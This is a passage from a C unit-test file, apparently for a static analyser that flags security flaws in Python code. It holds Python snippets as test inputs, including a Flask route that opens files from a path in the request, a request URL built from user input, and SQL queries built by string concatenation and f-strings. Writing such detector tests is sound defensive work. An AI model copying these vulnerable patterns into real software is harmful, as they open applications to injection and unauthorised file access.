	"from flask import Flask\napp = Flask('x')\n@app.route('/<int:n>')\ndef f(n):\n"
	"    return open(f'/srv/{n}').read()\n",
	"import requests\nfrom flask import request\n"
	"requests.get('https://x.y/z/' + request.args['a'], params=request.args)\n",
	"import urllib.request\nrequest = "
	"urllib.request.Request('https://x.y')\nopen(request.data)\n",
	"import html\nfrom flask import Flask, request\napp = Flask('x')\n@app.route('/')\ndef "
	"f():\n"
	"    a = request.args['a']\n    a = html.escape(a)\n    return '<p>' + a\n",
	"def f(request):\n    return request.args\nclass A:\n    def g(self, event):\n"
	"        open(event.path)\n",
};

static void what_visitors_send_is_followed(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(sent) / sizeof(sent[0]); i++)
		if (!finds(sent[i].text, BJ_LANG_PYTHON, sent[i].rule))
			fail_msg("%s does not find\n%s", sent[i].rule, sent[i].text);
	for (size_t i = 0; i < sizeof(tested) / sizeof(tested[0]); i++) {
		struct bj_findings findings = { 0 };

		find(tested[i], BJ_LANG_PYTHON, &findings);
		for (size_t k = 0; k < findings.n; k++)
			if (!strncmp(findings.items[k].rule->id, "py-web-", 7))
				fail_msg("%s finds\n%s", findings.items[k].rule->id, tested[i]);
		bj_findings_done(&findings);
	}
}

/* SQL is told where it is made, when a value of data is in it. */
static void sql_is_told_where_it_is_made(void **state)
{
	static const char *const made[] = {
		"q = \"select a from t where b = '\" + b + \"'\"\n",
		"q = \"select a from t where b = '%s'\" % b\n",
		"q = f'''\n    select a\n    from t\n    where b = {b}\n'''\n",
		"q = 'insert into t values ({}, {})'.format(a, b)\n",
		"q = f\"update t set a = '{a}' where id = 1\"\n",
		"run('delete from t where b = ' + b)\n",
		"q = (f\"select a from t \"\n     f\"where b like '%{b}%'\")\n",
	};
	static const char *const quiet[] = {
		"q = 'select a from t where b = ?'\n",
		"q = f'select {columns} from {table}'\n",
		"q = 'select a from ' + table\n",
		"q = f'select a from t where b in ({marks})'\n",
		"q = f'select a from t where b = {int(n)}'\n",
		"q = 'insert into %s (a) values (%%s)' % table\n",
		"print(f'Update {name} to {version}')\nprint('Select one from', names)\n",
		"b = 'x'\nq = f\"select a from t where b = '{b}'\"\n",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(made) / sizeof(made[0]); i++)
		if (!finds(made[i], BJ_LANG_PYTHON, "py-sql-text"))
			fail_msg("not found: %s", made[i]);
	for (size_t i = 0; i < sizeof(quiet) / sizeof(quiet[0]); i++)
		if (finds(quiet[i], BJ_LANG_PYTHON, "py-sql-text"))
			fail_msg("found: %s", quiet[i]);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(every_rule_holds_by_its_examples),
		cmocka_unit_test(hidden_names_are_found),
		cmocka_unit_test(hidden_commands_are_found),
		cmocka_unit_test(own_functions_are_not_builtins),
		cmocka_unit_test(what_is_followed_is_not_guessed),
		cmocka_unit_test(words_in_text_are_not_calls),
		cmocka_unit_test(gaps_of_the_grammar_are_mended),
		cmocka_unit_test(nested_text_has_a_ceiling),
		cmocka_unit_test(recipes_have_a_ceiling),
		cmocka_unit_test(words_of_loops_have_a_ceiling),
		cmocka_unit_test(open_documents_have_a_ceiling),
		cmocka_unit_test(giving_up_is_a_finding),
		cmocka_unit_test(what_visitors_send_is_followed),
		cmocka_unit_test(sql_is_told_where_it_is_made),
		cmocka_unit_test(rules_of_the_user_are_found),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
